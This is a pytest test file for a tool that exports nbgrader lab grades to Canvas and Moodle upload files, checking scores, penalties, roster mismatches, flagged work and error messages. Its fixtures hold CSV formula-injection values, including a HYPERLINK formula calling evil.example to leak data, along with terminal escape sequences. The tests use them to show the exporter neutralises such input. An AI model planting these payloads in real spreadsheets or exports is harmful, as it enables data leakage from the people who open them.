"""Grades for Canvas and Moodle (grading/instructor/lms.py,
`python -m grading.instructor.lms`) from a real gradebook.

A gradebook built with nbgrader's own API in a course folder of its own (two labs, a late
penalty, a person's mark, a written answer still waiting, a student with no submission, a
hostile name and id), and the rosters Canvas and Moodle export for the class, with one student
the gradebook lacks. The command runs as an instructor runs it (its `main`, on the course's
nbgrader_config.py), and every header, score and mismatch is checked against what the test put
into the gradebook, then each bad input for its message and for writing nothing.
"""

import csv
import io
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from grading.instructor import lms

# nbgrader's own add_submission builds objects that SQLAlchemy warns about while autoflushing
pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

LABS = {  # lab -> due date and its cells (name -> type, points)
    "LM10-L1": ("2026-10-01 23:59:00 UTC", {"l1_a": ("code", 4.0), "l1_b": ("code", 6.0)}),
    "LM10-L2": (
        "2026-10-15 23:59:00 UTC",
        {"l2_a": ("code", 5.0), "l2_written": ("markdown", 3.0)},
    ),
}
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak","click"),\n\x1b[31mBob'
HOSTILE_ID = "@SUM(1+1)\x1b[2J"
STUDENTS = {  # id -> first name, last name, e-mail
    "alice": ("Alice", "Smith", "alice@uni.example"),
    "bob": ("Bob", "Brown", "+bob@uni.example"),
    "carol": ("Carol", "Lee", "carol@uni.example"),
    "dave": ("Dave", "Dunn", "dave@uni.example"),  # hands in nothing
    "eve": ('=HYPERLINK("http://x")\n\x1b]0;title\x07Eve', "Evans", "eve@uni.example"),  # no roster
    HOSTILE_ID: ("Mallory", "", ""),  # no roster row either
}
# (lab, student) -> autograder scores, a person's scores (None: still waiting), late penalty
SUBMISSIONS = {
    ("LM10-L1", "alice"): ({"l1_a": 4.0, "l1_b": 6.0}, {}, 0.0),
    ("LM10-L1", "bob"): ({"l1_a": 4.0, "l1_b": 1.5}, {}, 0.0),
    ("LM10-L1", "carol"): ({"l1_a": 4.0, "l1_b": 3.0}, {}, 2.0),
    ("LM10-L1", "eve"): ({"l1_a": 4.0, "l1_b": 0.0}, {}, 0.0),
    ("LM10-L2", "alice"): ({"l2_a": 5.0}, {"l2_written": 2.5}, 0.0),
    ("LM10-L2", "bob"): ({"l2_a": 1.0}, {"l2_written": 0.0}, 4.0),  # penalty above the score
    ("LM10-L2", "carol"): ({"l2_a": 2.0}, {"l2_written": None}, 0.0),
}
CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
CANVAS_ROSTER = [  # as Canvas's gradebook export writes it
    CANVAS_HEADER + ["LM10-L1 (101)", "Quiz 1 (102)", "Current Score", "Final Score"],
    ["", "", "", "", "", "Manual Posting", "", "", ""],
    ["    Points Possible", "", "", "", "", "10.00", "5.00", "(read only)", "(read only)"],
    ["Smith, Alice", "1001", "S001", "alice", "Section A", "9.00", "5.00", "90", "90"],
    [HOSTILE_NAME, "1002", "S002", "bob", "Section A", "", "", "", ""],
    ["Lee, Carol", "1003", "S003", "carol", "Section B", "", "", "", ""],
    ["Dunn, Dave", "1004", "S004", "dave", "Section B", "", "", "", ""],
    ["Zed, Zoe", "1005", "S005", "zoe", "Section B", "", "", "", ""],  # not in the gradebook
    ["Student, Test", "1099", "", "", "Section A", "", "", "", ""],  # Canvas's test student
]
MOODLE_ROSTER = [  # a Moodle export with the username
    ["First name", "Last name", "Username", "ID number", "Email address", "Assignment: LM10-L1"],
    ["Alice", "Smith", "alice", "1001", "alice@uni.example", "9.00"],
    [HOSTILE_NAME, "Brown", "bob", "1002", "+bob@uni.example", "-"],
    ["Carol", "Lee", "carol", "1003", "carol@uni.example", "-"],
    ["Dave", "Dunn", "dave", "1004", "dave@uni.example", "-"],
    ["Zoe", "Zed", "zoe", "1005", "zoe@uni.example", "-"],
]


def expected(lab, student):
    """What the test put in: every cell's score, less the late penalty, never below 0."""
    if (lab, student) not in SUBMISSIONS:
        return 0.0
    auto, manual, penalty = SUBMISSIONS[lab, student]
    return max(0.0, sum(auto.values()) + sum(v or 0.0 for v in manual.values()) - penalty)


@pytest.fixture(scope="module")
def grading(tmp_path_factory):
    """A course folder whose grading/nbgrader_config.py names a gradebook built here."""
    root = tmp_path_factory.mktemp("course")
    folder = root / "grading"
    folder.mkdir()
    database = folder / "gradebook.db"
    (folder / "nbgrader_config.py").write_text(
        "c = get_config()  # noqa: F821\n"
        f"c.CourseDirectory.root = {str(root)!r}\n"
        'c.CourseDirectory.course_id = "LM10"\n'
        'c.CourseDirectory.submitted_directory = "grading/submitted"\n'
        'c.CourseDirectory.autograded_directory = "grading/autograded"\n'
        f'c.CourseDirectory.db_url = "sqlite:///" + {str(database)!r} + "?timeout=120"\n'
    )
    with Gradebook(f"sqlite:///{database}", course_id="LM10") as gradebook:
        for lab, (due, cells) in LABS.items():
            gradebook.add_assignment(lab, duedate=due)
            gradebook.add_notebook(lab, lab)
            for cell, (kind, points) in cells.items():
                gradebook.add_grade_cell(cell, lab, lab, max_score=points, cell_type=kind)
        for student, (first, last, email) in STUDENTS.items():
            gradebook.add_student(student, first_name=first, last_name=last, email=email)
        for (lab, student), (auto, manual, penalty) in SUBMISSIONS.items():
            late = "2026-10-20 09:00:00 UTC" if penalty else "2026-09-30 10:00:00 UTC"
            gradebook.add_submission(lab, student, timestamp=late)
            for cell, score in auto.items():
                grade = gradebook.find_grade(cell, lab, lab, student)
                grade.auto_score, grade.needs_manual_grade = score, False
            for cell, score in manual.items():
                grade = gradebook.find_grade(cell, lab, lab, student)
                grade.manual_score, grade.needs_manual_grade = score, score is None
            notebook = gradebook.find_submission_notebook(lab, lab, student)
            notebook.late_submission_penalty = penalty
            gradebook.db.commit()
    flag_some(root, folder)
    return folder


# (lab, student) -> the autograde report's status, and her autograded notebook: "hers" (code
# the batch flags), "honest", or none
FLAGS = {
    ("LM10-L2", "alice"): ("graded", "hers"),  # handed in again, autograded from the formgrader
    ("LM10-L2", "carol"): ("graded", "honest"),
    ("LM10-L1", "bob"): ("flagged", None),  # the batch's row says flagged
    ("LM10-L1", HOSTILE_ID): ("flagged", None),  # a row without a submission: its 0 stands
    ("LM10-L1", "eve"): ("graded", None),  # nothing to read: not flagged
    ("LM10-L1", "carol"): ("error", None),  # the grader stopped: her 0 is no grade
}


def flag_some(root, folder):
    """The real LM10-L2 release under the course's labs/, the autograde reports of FLAGS'
    rows and their autograded notebooks (the flags `make grades` reads, grades_export)."""
    from lab_cases import fill, solution_answers

    source = Path(__file__).resolve().parents[1] / "labs" / "LM10-L2" / "LM10-L2.ipynb"
    release = root / "labs" / "LM10-L2" / "LM10-L2.ipynb"
    release.parent.mkdir(parents=True)
    release.write_text(source.read_text())
    released = nbformat.read(release, as_version=4)
    answers = solution_answers("LM10-L2")
    notebooks = {"honest": fill(nbformat.from_dict(released), dict(answers))}
    answers["l2_serving"] += "\nimport os\nprint(os.listdir('.'))\n"
    notebooks["hers"] = fill(nbformat.from_dict(released), answers)
    for lab in LABS:
        rows = [["student", "status", "message"]]
        for (at, student), (status, notebook) in FLAGS.items():
            if at != lab:
                continue
            words = {"flagged": "FLAGGED for review: imports os", "error": "RecursionError"}
            rows.append([student, status, words.get(status, "")])
            if notebook:
                graded = folder / "autograded" / student / lab / f"{lab}.ipynb"
                graded.parent.mkdir(parents=True)
                nbformat.write(notebooks[notebook], graded)
        write_csv(folder / f"autograde-{lab}.csv", rows)


def write_csv(path, rows):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_csv(path):
    content = path.read_text(encoding="utf-8")
    assert "\x1b" not in content and "\x07" not in content
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(content.splitlines()) == len(rows), "a record spans lines"
    return rows


def run(capsys, *argv):
    """`python -m grading.instructor.lms ARGV` in this process: (exit status, stdout, stderr)."""
    try:
        lms.main([str(a) for a in argv])
        status = 0
    except SystemExit as exit_:
        status = exit_.code
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err
    return status, out, err


def test_canvas(grading, tmp_path, capsys):
    roster = write_csv(tmp_path / "roster.csv", CANVAS_ROSTER)
    status, out, err = run(capsys, "canvas", "--roster", roster, "--grading", grading)
    assert status == 0, err
    written = grading / "exports" / "canvas-grades.csv"
    assert f"wrote {written}" in out
    rows = read_csv(written)
    assert rows[0] == CANVAS_HEADER + ["LM10-L1 (101)", "LM10-L2"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "10", "8"]
    assert all(len(row) == 7 for row in rows)
    by_login = {row[3]: row for row in rows[2:]}
    assert set(by_login) == {"alice", "bob", "carol", "dave", "zoe", ""}
    for student in ("alice", "bob", "carol", "dave"):
        assert [float(v) for v in by_login[student][5:]] == [
            expected("LM10-L1", student),
            expected("LM10-L2", student),
        ], student
    assert by_login["carol"][5:] == ["5", "2"]  # 7 less the penalty of 2; a mark still waiting
    assert by_login["bob"][5:] == ["5.5", "0"]  # a penalty above the score gives 0
    assert by_login["dave"][5:] == ["0", "0"]  # nothing handed in
    assert by_login["zoe"][5:] == ["", ""] and by_login[""][5:] == ["", ""]  # roster only
    assert by_login["alice"][:5] == ["Smith, Alice", "1001", "S001", "alice", "Section A"]
    assert by_login["bob"][0] == "'" + '=HYPERLINK("http://evil.example/?leak","click"),Bob'
    assert "LM10-L2: the roster has no column 'LM10-L2'" in err
    assert "creates (with 8 points)" in err
    assert "1 submission(s) still wait for manual grading" in err and ": carol" in err

    mismatch = read_csv(grading / "exports" / "canvas-grades-mismatch.csv")
    assert mismatch[0] == ["student", "where", "detail"]
    found = {(student, where): detail for student, where, detail in mismatch[1:]}
    assert set(found) == {
        ("eve", "gradebook only"),
        ("'@SUM(1+1)", "gradebook only"),
        ("zoe", "roster only"),
        ("Student, Test", "roster only"),
    }
    eve = found["eve", "gradebook only"]
    assert eve.startswith("'=HYPERLINK") and "Eve Evans (LM10-L1 4, LM10-L2 0)" in eve
    assert "no Canvas user" in eve
    assert "not in nbgrader's gradebook" in found["zoe", "roster only"]
    assert "no SIS Login ID in the roster" in found["Student, Test", "roster only"]
    assert "roster mismatch: 2 in the gradebook only" in err and "2 in the roster only" in err


def test_canvas_match_on_sis_user_id(grading, tmp_path, capsys):
    rows = [CANVAS_ROSTER[0], CANVAS_ROSTER[2]]
    rows += [r[:2] + [r[3], "login-" + r[3]] + r[4:] for r in CANVAS_ROSTER[3:7]]
    roster = write_csv(tmp_path / "roster.csv", rows)
    out = tmp_path / "canvas.csv"
    status, _, err = run(
        capsys, "canvas", "--roster", roster, "--grading", grading, "--out", out,
        "--match-on", "SIS User ID", "--lab", "LM10-L1",
    )  # fmt: skip
    assert status == 0, err
    written = read_csv(out)
    assert written[0] == CANVAS_HEADER + ["LM10-L1 (101)"]
    assert {row[2]: float(row[5]) for row in written[2:]} == {
        s: expected("LM10-L1", s) for s in ("alice", "bob", "carol", "dave")
    }
    assert (tmp_path / "canvas-mismatch.csv").is_file()


def test_moodle(grading, tmp_path, capsys):
    roster = write_csv(tmp_path / "participants.csv", MOODLE_ROSTER)
    out = tmp_path / "out" / "moodle.csv"
    status, stdout, err = run(
        capsys, "moodle", "--roster", roster, "--grading", grading, "--out", out,
        "--lab", "LM10-L2", "--lab", "LM10-L1",
    )  # fmt: skip
    assert status == 0, err
    assert f"wrote {out} (4 students, 4 with scores)" in stdout
    rows = read_csv(out)
    assert rows[0] == ["Username", "Email address", "LM10-L2", "LM10-L1"]
    by_user = {row[0]: row for row in rows[1:]}
    assert set(by_user) == {"alice", "bob", "carol", "dave"}  # zoe: an empty cell would clear
    for student, row in by_user.items():
        assert [float(v) for v in row[2:]] == [
            expected("LM10-L2", student),
            expected("LM10-L1", student),
        ]
        assert row[1] in (STUDENTS[student][2], "'" + STUDENTS[student][2])
    assert by_user["bob"][1] == "'+bob@uni.example"
    mismatch = read_csv(tmp_path / "out" / "moodle-mismatch.csv")
    found = {(student, where): detail for student, where, detail in mismatch[1:]}
    assert set(found) == {
        ("eve", "gradebook only"),
        ("'@SUM(1+1)", "gradebook only"),
        ("zoe", "roster only"),
    }
    assert "left out of the export" in found["zoe", "roster only"]
    assert "no Moodle user" in found["eve", "gradebook only"]
    assert "2 in the gradebook only" in err and "1 in the roster only" in err


def test_flagged_submissions_are_beside_the_upload(grading, tmp_path, capsys):
    """The seventy-third's open row: `make lms` carried no flag, so a flagged submission (the
    batch's row, or code the batch flags handed in again and autograded from the formgrader)
    left for Canvas or Moodle as a clean score. Neither import takes a flag column; the flagged
    file beside the upload lists them, as `make grades`'s `flagged` column does."""
    for system, roster in (("canvas", CANVAS_ROSTER), ("moodle", MOODLE_ROSTER)):
        out = tmp_path / system / "grades.csv"
        status, stdout, err = run(
            capsys, system, "--roster", write_csv(tmp_path / f"{system}.csv", roster),
            "--grading", grading, "--out", out,
        )  # fmt: skip
        assert status == 0, err
        flagged = read_csv(tmp_path / system / "grades-flagged.csv")
        assert flagged[0] == ["student", "lab", "score", "detail"]
        found = {(student, lab): (score, detail) for student, lab, score, detail in flagged[1:]}
        assert set(found) == {("alice", "LM10-L2"), ("bob", "LM10-L1"), ("carol", "LM10-L1")}
        assert found["alice", "LM10-L2"][0] == "7.5"
        assert "imports os" in found["bob", "LM10-L1"][1]
        assert found["carol", "LM10-L1"] == (
            "5",
            "not graded (the autograde report says error): grade it again: RecursionError",
        )
        assert "3 submission(s) flagged for a person to read" in err
        assert str(tmp_path / system / "grades-flagged.csv") in stdout
        # the upload itself is as before: no extra column an import would take for a lab
        assert read_csv(out)[0][-1] == "LM10-L2"


def bad_inputs(tmp_path):
    """(argument list, words the message must hold) for each bad input."""
    canvas = write_csv(tmp_path / "canvas.csv", CANVAS_ROSTER)
    twice = write_csv(tmp_path / "twice.csv", CANVAS_ROSTER + [CANVAS_ROSTER[3]])
    points = [CANVAS_ROSTER[0], CANVAS_ROSTER[2][:5] + ["20.00"] + CANVAS_ROSTER[2][6:]]
    points = write_csv(tmp_path / "points.csv", points + CANVAS_ROSTER[3:])
    no_username = write_csv(
        tmp_path / "grades.csv", [[c for i, c in enumerate(r) if i != 2] for r in MOODLE_ROSTER]
    )
    no_email = write_csv(
        tmp_path / "no_email.csv", MOODLE_ROSTER[:2] + [MOODLE_ROSTER[2][:4] + [""]]
    )
    empty = tmp_path / "empty" / "grading"
    empty.mkdir(parents=True)
    (empty / "nbgrader_config.py").write_text(
        "c = get_config()  # noqa: F821\n"
        f"c.CourseDirectory.root = {str(empty.parent)!r}\n"
        'c.CourseDirectory.course_id = "LM10"\n'
        'c.CourseDirectory.submitted_directory = "s"\n'
        'c.CourseDirectory.autograded_directory = "a"\n'
        f'c.CourseDirectory.db_url = "sqlite:///{empty / "gradebook.db"}"\n'
    )
    return [
        (["canvas", "--roster", tmp_path / "nowhere.csv"], ["no roster file", "nowhere.csv"]),
        (
            ["moodle", "--roster", no_username],
            [
                "no column 'Username'",
                "First name, Last name, ID number, Email address",
                "--match-on takes Username, Email address, ID number",
                "this roster has Email address, ID number",
            ],
        ),  # fmt: skip
        (["canvas", "--roster", twice], ["SIS Login ID 'alice' is on rows 4 and 10"]),
        (
            ["canvas", "--roster", canvas, "--lab", "LM10-L9"],
            ["no lab LM10-L9 in the gradebook; it has LM10-L1, LM10-L2"],
        ),
        (
            ["canvas", "--roster", canvas, "--match-on", "Name"],
            ["--match-on 'Name'", "SIS Login ID, SIS User ID, ID"],
        ),
        (
            ["canvas", "--roster", points],
            ["LM10-L1 (101) is out of 20 points in Canvas", "out of 10 in nbgrader"],
        ),
        (["moodle", "--roster", no_email], ["row 3 (bob) has no Email address"]),
        (["canvas", "--roster", canvas, "--grading", empty], ["no gradebook at", "release"]),
        (["canvas", "--roster", canvas, "--grading", tmp_path], ["no nbgrader_config.py in"]),
    ]


def test_bad_input(grading, tmp_path, capsys):
    for argv, words in bad_inputs(tmp_path):
        out = tmp_path / "written" / "grades.csv"
        if "--grading" not in argv:
            argv = argv + ["--grading", grading]
        status, stdout, err = run(capsys, *argv, "--out", out)
        assert status == 2, (argv, err)
        for word in words:
            assert word in err, (argv, err)
        assert err.startswith("lms: ") and not stdout
        assert not (tmp_path / "written").exists(), argv  # nothing written, never a wrong number
    assert not (tmp_path / "empty" / "grading" / "gradebook.db").exists()  # none made either
